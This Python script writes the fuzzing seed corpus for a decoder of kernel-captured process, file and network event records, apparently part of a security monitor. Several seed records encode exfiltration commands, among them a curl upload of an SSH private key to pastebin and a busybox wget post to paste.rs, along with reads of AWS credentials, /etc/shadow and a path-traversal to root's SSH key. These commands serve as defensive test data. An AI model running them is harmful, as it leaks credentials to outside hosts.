#!/usr/bin/env python3
"""Writes the seed corpus of the decoder fuzz target (tests/fuzz/corpus/decoder/): one record of
every kind laid out as bpf/include/records.h says, with payloads captured from real clients (the
TLS and HTTP corpora), plus records cut short or lying about their sizes (named bad_*: the decoder must refuse them,
tests/unit/decode/decoder_test.cpp checks both halves). Run it again after a
layout change in records.h: `/usr/bin/python3 tests/fuzz/decoder_corpus.py`."""

import struct
from pathlib import Path

HERE = Path(__file__).resolve().parent
OUT = HERE / "corpus" / "decoder"
VERSION = 1
EXEC, FORK, EXIT, FILE_OPEN, FIRST_READ, FLOW_START, FLOW_DATA, FLOW_END, FLOW_UPDATE, OBJECT_IO = range(1, 11)
PIPE, FIFO, UNIX, LOOPBACK, MEMORY, ENVIRON, SHARED, CMDLINE = range(8)
READ, WRITE = range(2)
TIME, PID, TID = 123_456_789_000, 4242, 4243


def header(kind, size, version=VERSION):
    return struct.pack("<HHIQII", kind, version, size, TIME, PID, TID)


def record(kind, body, version=VERSION):
    return header(kind, 24 + len(body), version) + body


def components(path):
    """Leaf-first, NUL-terminated components, as the kernel walk writes them."""
    parts = [p for p in path.split("/") if p]
    return b"".join(p.encode() + b"\0" for p in reversed(parts)) + b"/\0"


def exec_record(exe, args, truncated=False, cgroup=b"", stdin_pipe=0, stdout_pipe=0):
    exe_bytes = components(exe)
    arg_bytes = b"".join(a + b"\0" for a in args)
    fixed = struct.pack("<IIIIIIQQQQHHBB16sH", 1000, 0, 0, PID, 900, 1, 0x2a, TIME - 5, stdin_pipe,
                        stdout_pipe, len(exe_bytes), len(arg_bytes), int(truncated), 0,
                        exe.rsplit("/", 1)[-1].encode()[:15], len(cgroup))
    return record(EXEC, fixed + exe_bytes + arg_bytes + cgroup)


def file_open(name, base=None, flags=0, fd=3, path_flags=None):
    name_bytes = name.encode() + b"\0"
    base_bytes = components(base) if base else b""
    if path_flags is None:
        path_flags = 0x1 if name.startswith("/") else 0x2
    fixed = struct.pack("<iiIIQQHHHHII", fd, -100, flags, 0o100600, 1311, (8 << 20) | 1, len(name_bytes),
                        len(base_bytes), base.count("/") if base else 0, path_flags, 257, 0)
    return record(FILE_OPEN, fixed + name_bytes + base_bytes)


def file_open_resolved(name, resolved, fd=4):
    """A successful open: the name as typed, then the opened file's own walked path."""
    name_bytes = name.encode() + b"\0"
    walked = components(resolved)
    path_flags = (0x1 if name.startswith("/") else 0) | 0x8
    fixed = struct.pack("<iiIIQQHHHHII", fd, -100, 0, 0o100600, 1311, (8 << 20) | 1, len(name_bytes),
                        len(walked), resolved.count("/"), path_flags, 257, 0)
    return record(FILE_OPEN, fixed + name_bytes + walked)


def object_io(kind, object_id, direction, nbytes, first=1, fd=1, dev=0):
    return record(OBJECT_IO, struct.pack("<QQQiBBBx", object_id, dev, nbytes, fd, kind, direction, first))


def tuple_v4(daddr="127.0.0.1", dport=8443, proto=6):
    s = bytes([127, 0, 0, 1]) + bytes(12)
    d = bytes(int(x) for x in daddr.split(".")) + bytes(12)
    return s + d + struct.pack("<HHBB2x", 40000, dport, 2, proto)


def tuple_v6(dport=443):
    s = bytes(15) + b"\1"
    d = bytes(10) + b"\xff\xff" + bytes([10, 0, 0, 7])
    return s + d + struct.pack("<HHBB2x", 40001, dport, 10, 6)


def flow_data(payload, tup=None, offset=0, inbound=False, datagram=False, declared=None):
    fixed = struct.pack("<Q", 77) + (tup or tuple_v4()) + struct.pack(
        "<IHBB", offset, len(payload) if declared is None else declared, int(inbound), int(datagram))
    return record(FLOW_DATA, fixed + payload)


def flow_counters(kind, tup=None):
    return record(kind, struct.pack("<Q", 77) + (tup or tuple_v4()) + struct.pack("<QQQQ", 5000, 300, 5001, 301))


def dns_answer():
    question = b"\x08pastebin\x03com\x00\x00\x01\x00\x01"
    answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\x7f\x00\x00\x05"
    return b"\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + question + answer


def seeds():
    tls = (HERE / "corpus" / "tls" / "curl.bin").read_bytes()
    http = (HERE / "corpus" / "http" / "curl_http.bin").read_bytes()
    good = {
        "exec": exec_record("/usr/bin/curl", [b"curl", b"-T", b"/root/.ssh/id_ed25519", b"https://pastebin.com/"]),
        "exec_not_utf8": exec_record("/bin/echo", [b"echo", b"a b", b"\xff", b'"q"']),
        "exec_truncated_args": exec_record("/bin/sh", [b"sh", b"-c", b"x" * 300], truncated=True),
        "exec_in_container_piped": exec_record(
            "/bin/busybox", [b"wget", b"--post-file=/k", b"http://paste.rs/"], stdin_pipe=9001,
            stdout_pipe=9002, cgroup=b"docker-" + b"a" * 64 + b".scope\0system.slice\0"),
        "fork": record(FORK, struct.pack("<IIQQ16s", 4000, 1000, TIME - 9, 0x2a, b"bash")),
        "exit": record(EXIT, struct.pack("<iIQ", 1 << 8, 0, TIME - 5)),
        "file_open_absolute": file_open("/root/.aws/credentials"),
        "file_open_relative": file_open("../.ssh/id_ed25519", base="/home/dev/src"),
        "file_open_failed": file_open("/etc/shadow", fd=-13),
        "file_open_truncated": file_open("a" * 200, base="/very/deep", path_flags=0x2 | 0x4),
        "file_first_read": record(FIRST_READ, struct.pack("<iIQQ", 0, 0, 1311, (8 << 20) | 1)),
        "flow_start_v4": record(FLOW_START, struct.pack("<Q", 77) + tuple_v4() + struct.pack("<IIQ", 1, 0, 123457)),
        "flow_start_v6_mapped": record(FLOW_START, struct.pack("<Q", 78) + tuple_v6() + struct.pack("<IIQ", 0, 0, 0)),
        "flow_data_tls": flow_data(tls),
        "flow_data_http": flow_data(http, tuple_v4(dport=8080)),
        "flow_data_dns": flow_data(dns_answer(), tuple_v4("127.0.0.2", 53, 17), inbound=True, datagram=True),
        "flow_end": flow_counters(FLOW_END),
        "flow_update_v6": flow_counters(FLOW_UPDATE, tuple_v6()),
        "trailing_bytes": flow_counters(FLOW_END) + b"\xee" * 32,
        "file_open_resolved_dotdot": file_open_resolved("/usr/lib/../../root/.ssh/id_rsa", "/root/.ssh/id_rsa"),
        "file_open_by_handle": file_open_resolved("", "/home/dev/.aws/credentials", fd=5),
        "object_io_pipe_write": object_io(PIPE, 180332, WRITE, 4096),
        "object_io_fifo_read_update": object_io(FIFO, 7, READ, 65536 * 3, first=0, fd=0, dev=(8 << 20) | 1),
        "object_io_unix_read": object_io(UNIX, 0x9E3779B97F4A7C15, READ, 17, fd=5),
        "object_io_loopback_io_uring": object_io(LOOPBACK, 2**64 - 1, WRITE, 123456789012, fd=-1),
        "object_io_memory_read": object_io(MEMORY, 4300, READ, 4096, fd=-1),
        "object_io_memory_write_in_a_pid_namespace": object_io(MEMORY, 7, WRITE, 8, fd=-1, dev=4026532999),
        "object_io_environ_read": object_io(ENVIRON, 4300, READ, 1877, fd=-1),
        "object_io_shared_mapping_write": object_io(SHARED, 332280, WRITE, 27028, dev=(254 << 20) | 0),
        "object_io_shared_address_space": object_io(SHARED, 0x9E3779B97F4A7C15, WRITE, 1, fd=-1),
        "object_io_cmdline_read": object_io(CMDLINE, 4300, READ, 61, fd=-1),
    }
    bad = {
        "short_header": header(EXEC, 24)[:20],
        "header_only_exec": header(EXEC, 24),
        "wrong_version": flow_counters(FLOW_END)[:2] + struct.pack("<H", 7) + flow_counters(FLOW_END)[4:],
        "unknown_kind": record(200, b"\0" * 16),
        "size_beyond_bytes": header(EXIT, 4096) + b"\0" * 16,
        "exec_cut_in_fixed_part": good["exec"][:60],
        "exec_sizes_exceed": good["exec"][:88] + b"curl\0",
        "file_open_sizes_exceed": good["file_open_relative"][:80],
        "flow_data_declares_more": flow_data(b"\x16\x03\x01", declared=4000),
        "object_io_unknown_kind": object_io(9, 1, READ, 1),
        "object_io_unknown_direction": object_io(PIPE, 1, 5, 1),
        "object_io_short": record(OBJECT_IO, b"\0" * 20),
    }
    for name in list(bad):
        if name.startswith(("exec_", "file_open_")):
            # the header still says the full size, so the cut shows as "size does not fit"; also
            # a version whose header agrees with the cut bytes, to reach the per-kind checks
            data = bytearray(bad[name])
            struct.pack_into("<I", data, 4, len(data))
            bad[name + "_consistent"] = bytes(data)
    return {**good, **{f"bad_{name}": data for name, data in bad.items()}}


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    for name, data in seeds().items():
        (OUT / f"{name}.bin").write_bytes(data)
    print(f"wrote {len(seeds())} seeds to {OUT}")


if __name__ == "__main__":
    main()
